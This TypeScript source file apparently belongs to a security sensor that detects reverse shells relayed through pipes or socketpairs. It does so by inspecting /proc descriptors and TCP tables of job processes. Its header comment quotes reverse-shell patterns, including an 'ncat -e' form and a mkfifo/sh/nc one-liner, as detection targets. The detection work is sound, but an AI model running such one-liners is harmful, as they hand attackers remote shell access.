/**
 * Reverse shells through a relay: a shell reading commands from a pipe or
 * socketpair whose output goes to a job process connected to a remote host
 * (ncat -e, socat EXEC, `mkfifo f; sh -i < f | nc host port > f`). The kernel
 * stops such a shell at exec (ShellOnIpcEvent); this looks at who holds the
 * other end of its stdout/stderr and whether that process talks to a remote
 * peer. Only the shell's output side counts: `curl … | sh` feeds a shell
 * from the network, but its output goes to the job's log, not back.
 *
 * judgeRelay decides from what a ProcessFiles gives it (procFiles reads
 * /proc; a test gives plain data); lookForRelay is the two together.
 */
import fs from 'node:fs';
import path from 'node:path';
import { formatIp, isLoopback, parseProcNetAddress as parseNetTableAddress } from '../net/address';
import type { ShellOnIpcEvent } from '../sensor/events';

export interface Relay {
  pid: number;
  exe: string;
  ip: string;
  port: number;
  fd: number;
}

/** What the judgement reads of a job process, read when asked (most job processes are ruled out by their descriptors). */
export interface ProcessFiles {
  /** Its descriptors with their link text ("pipe:[N]", "socket:[N]", a path); none once it is gone. */
  fds(pid: number): { fd: string; link: string }[];
  /** The text of its fdinfo for fd; undefined once gone. */
  fdinfo(pid: number, fd: string): string | undefined;
  /** /proc/PID/net/tcp or tcp6 (its network namespace's); undefined when unreadable. */
  netTable(pid: number, table: 'tcp' | 'tcp6'): string | undefined;
  /** Its program; '' once gone. */
  exe(pid: number): string;
}

/** ProcessFiles from procfs mounted at `proc`. */
export function procFiles(proc = '/proc'): ProcessFiles {
  const read = (...parts: string[]): string | undefined => {
    try {
      return fs.readFileSync(path.join(proc, ...parts), 'utf8');
    } catch {
      /* gone: no text */
    }
  };
  return {
    fds(pid) {
      const dir = path.join(proc, String(pid), 'fd');
      let names: string[];
      try {
        names = fs.readdirSync(dir);
      } catch {
        return [];
      }
      // a descriptor closed between the listing and its link is not held
      return names.flatMap((fd) => {
        try {
          return [{ fd, link: fs.readlinkSync(path.join(dir, fd)) }];
        } catch {
          return [];
        }
      });
    },
    fdinfo: (pid, fd) => read(String(pid), 'fdinfo', fd),
    netTable: (pid, table) => read(String(pid), 'net', table),
    exe(pid) {
      try {
        return fs.readlinkSync(path.join(proc, String(pid), 'exe'));
      } catch {
        return ''; // exited meanwhile
      }
    },
  };
}

/**
 * Whether a descriptor with this fdinfo reads (O_RDONLY or O_RDWR). Both ends
 * of a pipe share its inode: the shell's output is consumed by whoever holds
 * the read end, while other writers (every job process writing the same job
 * log) are not its other end. A socket is always open for both. No fdinfo
 * (gone): not a reader.
 */
export function opensForReading(fdinfo: string | undefined): boolean {
  const flags = fdinfo?.split('\n').find((line) => line.startsWith('flags:\t'))?.slice('flags:\t'.length);
  return flags !== undefined && (parseInt(flags, 8) & 3) !== 1; // O_ACCMODE != O_WRONLY
}

/** A /proc/net address column with the address as text, the same text as every other event's (RFC 5952 for IPv6). */
export function parseProcNetAddress(text: string): { ip: string; port: number } {
  const { address, port } = parseNetTableAddress(text);
  return { ip: formatIp(address), port };
}

const ESTABLISHED_OR_CONNECTING = new Set(['01', '02']);

/**
 * The first remote peer, in a /proc/net/tcp{,6} table, of a TCP socket that
 * is established or connecting and held as one of `links` ("socket:[inode]").
 * The header's "st" column is no state, so it never matches.
 */
export function remotePeer(table: string, links: Set<string>, loopbackIsRemote: boolean): { ip: string; port: number } | undefined {
  for (const line of table.split('\n')) {
    // sl local rem st tx:rx tr:when retrnsmt uid timeout inode …
    const fields = line.trim().split(/\s+/);
    if (!ESTABLISHED_OR_CONNECTING.has(fields[3]) || !links.has(`socket:[${fields[9]}]`)) continue;
    const { address, port } = parseNetTableAddress(fields[2]);
    if (loopbackIsRemote || !isLoopback(address)) return { ip: formatIp(address), port };
  }
  return undefined;
}

/** The other ends of the shell's stdout and stderr as /proc fd link text, with the shell's fd (stdout first). */
export function outputEnds(stdio: ShellOnIpcEvent['stdio']): Map<string, number> {
  const ends = new Map<string, number>();
  stdio.forEach((s, fd) => {
    if (fd === 0 || s.ipc === 'none') return;
    const link = s.ipc === 'pipe' ? `pipe:[${s.peerInode}]` : `socket:[${s.peerInode}]`;
    if (!ends.has(link)) ends.set(link, fd);
  });
  return ends;
}

/**
 * The job process, if any, that holds the other end of the shell's stdout or
 * stderr and a TCP connection to a remote host; and how many job processes
 * hold that other end at all (with none, no relay can appear later either).
 * The shell itself is not its own relay: what it writes to its own
 * socketpair comes back to it.
 */
export function judgeRelay(event: ShellOnIpcEvent, jobPids: number[], files: ProcessFiles, loopbackIsRemote: boolean): { relay?: Relay; holders: number } {
  const ends = outputEnds(event.stdio);
  let holders = 0;
  for (const pid of jobPids) {
    if (pid === event.tgid) continue;
    const fds = files.fds(pid);
    const held = fds.find(({ fd, link }) => ends.has(link) && opensForReading(files.fdinfo(pid, fd)));
    if (!held) continue;
    holders++;
    const links = new Set(fds.map(({ link }) => link));
    for (const table of ['tcp', 'tcp6'] as const) {
      const text = files.netTable(pid, table);
      const peer = text === undefined ? undefined : remotePeer(text, links, loopbackIsRemote);
      if (peer) return { relay: { pid, exe: files.exe(pid), ...peer, fd: ends.get(held.link)! }, holders };
    }
  }
  return { holders };
}

/** judgeRelay on procfs (mounted at options.proc, /proc by default). */
export function lookForRelay(event: ShellOnIpcEvent, jobPids: number[], options: { proc?: string; loopbackIsRemote?: boolean } = {}): { relay?: Relay; holders: number } {
  return judgeRelay(event, jobPids, procFiles(options.proc), options.loopbackIsRemote ?? false);
}
